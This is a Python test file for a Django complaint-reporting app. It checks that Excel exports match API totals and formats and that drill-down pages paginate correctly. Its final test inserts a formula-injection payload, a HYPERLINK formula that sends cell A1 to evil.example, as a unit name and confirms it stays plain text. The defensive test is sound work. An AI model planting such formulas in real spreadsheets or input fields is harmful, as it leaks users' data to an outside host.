"""Workbooks open, carry the filter on the header row, and their totals match the API's."""

import io
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook

from reports.tests.helpers import customer, register


def _book(client: Any, url: str) -> Any:
    res = client.get(url + "&format=xlsx")
    assert res.status_code == 200
    assert res["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(res.content))


def _totals(ws: Any) -> dict[str, Any]:
    header = [c.value for c in ws[1]]
    last = [c.value for c in ws[ws.max_row]]
    assert last[0] == "合计 Total"
    return dict(zip(header, last, strict=True))


def test_statistics_and_regulator_workbooks_match_the_api(cast: Any) -> None:
    for i, codes in enumerate(
        [
            {"business": "B02", "cause": "C07"},
            {"business": "B02", "cause": "C07"},
            {"business": "B03", "cause": "C01", "channel": "H04"},
            {},
        ]
    ):
        register(cast, customer=customer(i), codes=codes)
    register(cast, who="bob", unit="SH01", customer=customer(9), codes={"business": "B13"})
    client = cast.client("cpo")
    from django.utils import timezone

    from reports.models import ReportingBase

    ReportingBase.objects.create(year=timezone.localdate().year, personal_customers=2_000_000)

    url = "/api/v1/reports/statistics?group=unit,business&measures=n,decided"
    api = client.get(url).json()["tables"]["statistics"]
    ws = _book(client, url).worksheets[0]
    assert ws.auto_filter.ref.startswith("A1:")
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.bold
    assert [c.value for c in ws[1]] == [c["label"] for c in api["columns"]]
    assert ws.max_row == len(api["rows"]) + 2  # header, rows, totals
    totals = _totals(ws)
    assert totals["投诉量 Complaints"] == api["totals"]["n"] == 5

    url = "/api/v1/reports/regulator?period=" + api_period(client)
    api_report = client.get(url).json()
    book = _book(client, url)
    assert len(book.worksheets) == 6  # five tables and the About sheet
    ratios = {r["item"]: r["value"] for r in api_report["tables"]["ratios"]["rows"]}
    assert ratios["营业网点 Business outlets"] == 5  # 2 branches and 3 sub-branches
    assert ratios["每千个营业网点投诉量 Per 1,000 outlets"] == 1000.0  # 5 complaints
    assert ratios["每千万个人客户投诉量 Per 10 million personal customers"] == 25.0
    matrix = _totals(book.worksheets[0])
    assert matrix["合计 Total"] == api_report["tables"]["by_code"]["totals"]["total"] == 5
    by_cell = {(r["business"]): r for r in api_report["tables"]["by_code"]["rows"]}
    assert by_cell["B02"]["C07"] == 2 and by_cell["B13"]["unclassified"] == 1
    channel = _totals(book.worksheets[1])
    assert channel["投诉量 Complaints"] == 5


def api_period(client: Any) -> str:
    from django.utils import timezone

    today = timezone.localdate()
    return f"{today.year}Q{(today.month - 1) // 3 + 1}"


def test_the_service_workbook_formats_rates(cast: Any) -> None:
    register(cast, customer=customer(1))
    client = cast.client("cpo")
    ws = _book(client, "/api/v1/reports/service?group=unit").worksheets[0]
    header = [c.value for c in ws[1]]
    col = header.index("登记确认及时率 Acknowledgement compliance") + 1
    assert ws.cell(row=2, column=col).number_format == "0.0%"
    assert Decimal(str(ws.cell(row=2, column=col).value)) == Decimal("1")


def test_the_drill_down_workbook_lists_every_complaint_and_the_page_pages(cast: Any) -> None:
    for i in range(3):
        register(cast, customer=customer(i))
    client = cast.client("cpo")
    year = api_period(client)[:4]
    query = f"measure=n&from={year}-01-01&to={year}-12-31&page_size=2"
    api = client.get(f"/api/v1/reports/drill?{query}").json()
    assert api["count"] == 3 and len(api["tables"]["complaints"]["rows"]) == 2
    ws = _book(client, f"/api/v1/reports/drill?{query}").worksheets[0]
    assert ws.max_row == 1 + 3  # the header and every complaint, not the API's page of 2
    page = client.get(f"/reports/drill/?{query}").content.decode()
    assert "第 1/2 页" in page and "page=2" in page and "下一页 Next" in page
    second = client.get(f"/reports/drill/?{query}&page=2").content.decode()
    assert "第 2/2 页" in second and "page=1" in second and "下一页 Next" not in second


def test_a_figures_drill_down_link_opens_the_page(cast: Any) -> None:
    register(cast, customer=customer(1))
    page = cast.client("cpo").get("/reports/statistics/?group=unit").content.decode()
    assert 'href="/reports/drill/?measure=n' in page and "/api/v1/reports/drill?" not in page


def test_a_workbook_of_figures_only_keeps_its_first_total(cast: Any) -> None:
    for i in range(3):
        register(cast, customer=customer(i))
    ws = _book(cast.client("cpo"), "/api/v1/reports/statistics?measures=n,decided").active
    header = [c.value for c in ws[1]]
    last = [c.value for c in ws[ws.max_row]]
    assert last[:2] == [3, 0]  # the first total is not overwritten by the label
    assert last[2] == "合计 Total" and header == ["投诉量 Complaints", "已作出决定 Decided", None]


def test_the_page_of_figures_only_keeps_its_first_total(cast: Any) -> None:
    for i in range(3):
        register(cast, customer=customer(i))
    page = cast.client("cpo").get("/reports/statistics/?measures=n,decided").content.decode()
    foot = page[page.index("<tfoot>") : page.index("</tfoot>")]
    assert foot.count("<th>") == 3 and "<th>3</th><th>0</th><th>合计 Total</th>" in foot


def test_a_name_that_reads_as_a_formula_stays_text_in_the_workbook(cast: Any) -> None:
    register(cast, customer=customer(1))
    cast.bj01.name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    cast.bj01.save(update_fields=["name"])
    book = _book(cast.client("cpo"), "/api/v1/reports/statistics?group=unit&unit_depth=3")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)
